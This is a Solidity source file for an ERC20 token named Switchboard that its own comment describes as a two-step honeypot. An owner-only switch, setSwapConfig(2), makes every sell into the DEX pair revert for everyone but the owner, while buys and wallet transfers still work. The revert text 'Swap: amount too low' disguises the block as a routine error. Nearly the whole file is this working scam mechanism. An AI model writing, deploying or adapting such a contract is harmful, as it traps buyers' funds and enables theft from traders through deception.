// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title Two-step honeypot: one owner call, setSwapConfig(2), makes every
/// sell into the pair revert while wallet-to-wallet transfers still work.
/// Today the mode is 0 and everyone trades.
contract SwitchboardToken is ERC20, Ownable {
    address public immutable pair;
    uint8 public swapMode;

    constructor(address router, uint256 supply) ERC20("Switchboard", "SWB") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        _mint(msg.sender, supply);
    }

    function setSwapConfig(uint8 mode) external onlyOwner {
        swapMode = mode;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (swapMode == 2 && to == pair && from != owner()) revert("Swap: amount too low");
        _move(from, to, value);
    }
}
